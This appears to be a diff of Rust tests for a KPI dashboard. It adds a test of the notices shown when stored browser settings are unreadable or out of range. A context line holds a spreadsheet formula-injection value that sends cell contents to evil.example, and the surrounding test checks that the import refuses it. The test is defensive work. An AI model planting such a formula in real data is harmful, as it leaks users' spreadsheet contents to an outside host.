@@ -326,3 +326,24 @@ fn the_settings_preamble_of_every_csv_export_is_escaped() {
         serde_json::json!({ "currency_symbol": "=HYPERLINK(\"http://evil.example/?leak=\"&B5)" });
     assert_eq!(import(&json.to_string()).0.currency_symbol, "$");
 }
+
+#[test]
+fn the_stored_settings_notice_names_what_fell_back() {
+    use kpi_dash::metrics::settings::stored_settings_notice;
+    // Nothing stored, or clean settings: no notice.
+    assert_eq!(stored_settings_notice(None), None);
+    let clean = serde_json::to_string(&Settings::default()).unwrap();
+    assert_eq!(stored_settings_notice(Some(&clean)), None);
+    // Text that is no settings object: the defaults, said so.
+    let notice = stored_settings_notice(Some("{broken")).unwrap();
+    assert!(notice.starts_with("The settings stored in this browser could not be read"));
+    assert!(notice.ends_with("the defaults are used."));
+    // One refused field: one line under the heading.
+    let notice = stored_settings_notice(Some(r#"{"as_of": -2147483648}"#)).unwrap();
+    assert_eq!(
+        notice,
+        "The settings stored in this browser: 1 setting could not be used and fell back to \
+         the default:\nas_of: day number -2147483648 is a date outside 1900-01-01 to \
+         2200-12-31; the default (the last date in the data) is used"
+    );
+}
